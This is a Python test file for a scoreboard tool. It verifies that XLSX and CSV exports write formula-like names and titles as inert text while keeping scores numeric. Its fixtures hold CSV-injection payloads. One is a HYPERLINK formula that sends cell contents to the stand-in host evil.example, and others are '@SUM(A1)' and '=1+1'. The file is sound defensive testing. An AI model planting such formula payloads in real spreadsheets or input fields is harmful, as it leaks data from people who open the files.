"""Exports never run formulas: names, titles and teams typed by organizers (or imported from a
spreadsheet someone sent) that start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return are
written as text — an XLSX string cell, a CSV field prefixed with ``'`` — while scores and ranks stay
numbers. The competition is stored in a database and exported with ``scoreboard export``, as an
organizer would."""

from __future__ import annotations

import copy
import csv
import io
import json
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import tomli_w

from scoreboard.cli import main
from scoreboard.competition import parse_competition
from scoreboard.exports.csv import csv_bytes
from scoreboard.exports.tables import Table
from scoreboard.intake import Lookup, check_sheet
from scoreboard.store.engine import make_engine, migrate, session
from scoreboard.store.events import set_event_state
from scoreboard.store.load import save_competition
from scoreboard.store.sheets import record_sheet
from tests.support import COMPETITION, half_judged

LINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
TITLES = {"e1": "=1+1", "e2": "+1", "e3": "-2", "o1": "@x"}  # e1 88.83, e2 80.00, e3 no total, o1 no sheets
TEAMS = {"t1": LINK, "t2": "@SUM(A1)"}  # e1, e3 in t1; e2, o1 in t2
CONTESTANT = "-x"  # e1's contestant (a tab or a line break never reaches a name: see test_texts.py)


def hostile() -> dict[str, Any]:
    raw = copy.deepcopy(COMPETITION)
    raw["competition"]["name"] = "=1+1"
    for team in raw["teams"]:
        team["name"] = TEAMS[team["key"]]
    for entry in raw["entries"]:
        entry["title"] = TITLES[entry["key"]]
    raw["contestants"] = [{"key": "c1", "name": CONTESTANT, "team": "t1"}]
    raw["entries"][0]["contestants"] = ["c1"]
    return raw


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> str:
    competition = parse_competition(hostile(), "test")
    url = f"sqlite:///{tmp_path_factory.mktemp('formulas') / 'cup.db'}"
    engine = make_engine(url)
    migrate(engine)
    lookup = Lookup(competition)
    with session(engine, write=True) as s:
        save_competition(s, competition)
        for event in ("hot", "other"):
            set_event_state(s, "cup", event, "open", actor="test")
        for sheet in half_judged():
            record_sheet(s, "cup", check_sheet(lookup, sheet)[2], actor=f"judge:{sheet['judge']}")
        s.commit()
    engine.dispose()
    return url


def export(url: str, form: str, out: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["--lang", "en", "export", "cup", "--format", form, "--out", str(out), "--database-url", url])
    _out, err = capsys.readouterr()
    assert code == 0, err


def test_xlsx_writes_formula_like_texts_as_string_cells(url: str, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "cup.xlsx"
    export(url, "xlsx", path, capsys)
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 4  # hot, other, judges' marks, teams
        for name in sheets:
            assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = openpyxl.load_workbook(path)
    hot = wb["Hot dishes"]
    assert (hot["A1"].value, hot["A1"].data_type) == ("=1+1 · Hot dishes", "s")
    headers = [c.value for c in hot[2]]
    rows = [{h: c for h, c in zip(headers, row, strict=True)} for row in hot.iter_rows(min_row=3)]
    assert [(r["Entry"].value, r["Entry"].data_type) for r in rows] == [("=1+1", "s"), ("+1", "s"), ("-2", "s")]
    assert [(r["Team"].value, r["Team"].data_type) for r in rows] == [(LINK, "s"), ("@SUM(A1)", "s"), (LINK, "s")]
    assert (rows[0]["Contestants"].value, rows[0]["Contestants"].data_type) == ("-x", "s")
    assert [(r["Rank"].value, r["Rank"].data_type) for r in rows] == [(1, "n"), (2, "n"), (None, "n")]
    assert [(r["Total"].value, r["Total"].data_type) for r in rows[:2]] == [(88.83, "n"), (80, "n")]
    other = wb["Pastry"]
    assert (other["C3"].value, other["C3"].data_type, other["C2"].value) == ("@x", "s", "Entry")
    detail = wb["Judges' marks"]
    titles = {c.value for c in detail["C"][2:]}
    assert titles == {"=1+1", "+1", "-2"} and all(c.data_type == "s" for c in detail["C"][2:])
    teams = wb["Team standings"]
    assert [(c.value, c.data_type) for c in teams["B"][2:]] == [(LINK, "s"), ("@SUM(A1)", "s")]
    assert [(c.value, c.data_type) for c in teams["C"][2:]] == [(88.83, "n"), (80, "n")]


def test_csv_prefixes_formula_like_texts_and_never_numbers(url: str, tmp_path: Path,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "cup.csv"
    export(url, "csv", path, capsys)
    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    assert [(r["Rank"], r["Entry"], r["Team"], r["Total"]) for r in rows] == [
        ("1", "'=1+1", "'" + LINK, "88.83"), ("2", "'+1", "'@SUM(A1)", "80.00"), ("", "'-2", "'" + LINK, ""),
        ("", "'@x", "'@SUM(A1)", "")]
    assert rows[0]["Contestants"] == "'-x"
    detail = list(csv.DictReader(io.StringIO((tmp_path / "cup-detail.csv").read_bytes().decode("utf-8-sig"),
                                             newline="")))
    assert {r["Entry"] for r in detail} == {"'=1+1", "'+1", "'-2"}
    assert detail[0]["Judge's total on the final scale"] == "87.00"
    teams = (tmp_path / "cup-teams.csv").read_text(encoding="utf-8-sig").splitlines()
    assert teams[1:] == ['1,"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",88.83,2,1', "2,'@SUM(A1),80.00,2,1"]


def test_csv_leaves_negative_numbers_and_plain_texts_alone() -> None:
    table = Table("t", "T", ("=head", "Score", "Rank", "Name"),
                  [[None, Decimal("-2.50"), -1, "a-b"], ["@x", Decimal("0.00"), 3, "+"], ["\tx", None, None, "\ry"]])
    lines = csv_bytes(table).decode("utf-8-sig").split("\r\n")
    assert lines == ["'=head,Score,Rank,Name", ",-2.50,-1,a-b", "'@x,0.00,3,'+", "'\tx,,,\"'\ry\"", ""]


def test_offline_standings_csv_prefixes_texts_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "cup.toml").write_text(tomli_w.dumps(hostile()), encoding="utf-8")
    (tmp_path / "sheets.jsonl").write_text("".join(json.dumps(s) + "\n" for s in half_judged()), encoding="utf-8")
    code = main(["--lang", "en", "standings", str(tmp_path / "cup.toml"), str(tmp_path / "sheets.jsonl"),
                 "--format", "csv", "--event", "hot"])
    out, err = capsys.readouterr()
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [(r["rank"], r["title"], r["total"], r["awards"]) for r in rows] == [
        ("1", "'=1+1", "88.83", "Silver Second prize"), ("2", "'+1", "80.00", "Silver Third prize"),  # field of 3
        ("", "'-2", "", "")]
